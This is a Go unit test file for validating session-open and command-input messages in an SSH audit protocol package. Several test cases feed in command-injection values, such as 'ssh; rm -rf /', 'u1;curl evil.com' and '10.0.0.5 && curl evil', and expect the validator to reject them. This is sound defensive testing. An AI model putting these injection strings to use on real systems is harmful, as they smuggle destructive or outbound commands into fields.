package protocol

import (
	"strings"
	"testing"

	"github.com/tinkerbelle-io/tb-audit/internal/session"
)

func openMsg(mutate func(*SessionOpenMessage)) *SessionOpenMessage {
	m := &SessionOpenMessage{
		Type: TypeSessionOpen,
		Auth: session.AuthInfo{
			User:     session.User{ID: "u1", Name: "Alice", Username: "alice"},
			Account:  session.Account{ID: "a1", Name: "root", Username: "root"},
			Asset:    session.Asset{ID: "as1", Name: "db-1", Address: "10.0.0.5:22", OrgID: "org1"},
			Protocol: "ssh",
		},
	}
	if mutate != nil {
		mutate(m)
	}
	return m
}

func TestValidateSessionOpen(t *testing.T) {
	tests := []struct {
		name    string
		msg     *SessionOpenMessage
		wantErr string // empty = no error
	}{
		{"nil message", nil, "missing session.open"},
		{"valid ssh", openMsg(nil), ""},
		{"valid local", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Protocol = "local"
			m.Auth.Asset.Address = ""
		}), ""},

		{"bad protocol", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Protocol = "telnet"
		}), "invalid protocol"},
		{"protocol injection", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Protocol = "ssh; rm -rf /"
		}), "invalid protocol"},

		{"missing user id", openMsg(func(m *SessionOpenMessage) {
			m.Auth.User.ID = ""
		}), "missing user id"},
		{"user id injection", openMsg(func(m *SessionOpenMessage) {
			m.Auth.User.ID = "u1;curl evil.com"
		}), "invalid user id"},
		{"user id too long", openMsg(func(m *SessionOpenMessage) {
			m.Auth.User.ID = strings.Repeat("a", 254)
		}), "too long"},
		{"account id starts with hyphen", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Account.ID = "-evil"
		}), "invalid account id"},
		{"missing asset id", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Asset.ID = ""
		}), "missing asset id"},

		{"ssh needs address", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Asset.Address = ""
		}), "missing asset address"},
		{"address injection", openMsg(func(m *SessionOpenMessage) {
			m.Auth.Asset.Address = "10.0.0.5 && curl evil"
		}), "invalid asset address"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateSessionOpen(tt.msg)
			if tt.wantErr == "" {
				if err != nil {
					t.Errorf("unexpected error: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("expected error containing %q, got nil", tt.wantErr)
			}
			if !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("error %q does not contain %q", err.Error(), tt.wantErr)
			}
		})
	}
}

func TestValidateCommandInput(t *testing.T) {
	tests := []struct {
		name    string
		msg     *CommandInputMessage
		wantErr string
	}{
		{"nil message", nil, "missing command.input"},
		{"valid", &CommandInputMessage{SessionID: "s1", Input: "ls -la"}, ""},
		{"missing session id", &CommandInputMessage{Input: "ls"}, "missing session id"},
		{"empty input", &CommandInputMessage{SessionID: "s1", Input: "   "}, "empty command input"},
		{"oversized input", &CommandInputMessage{SessionID: "s1", Input: strings.Repeat("x", maxInputLen+1)}, "too long"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommandInput(tt.msg)
			if tt.wantErr == "" {
				if err != nil {
					t.Errorf("unexpected error: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatalf("expected error containing %q, got nil", tt.wantErr)
			}
			if !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("error %q does not contain %q", err.Error(), tt.wantErr)
			}
		})
	}
}
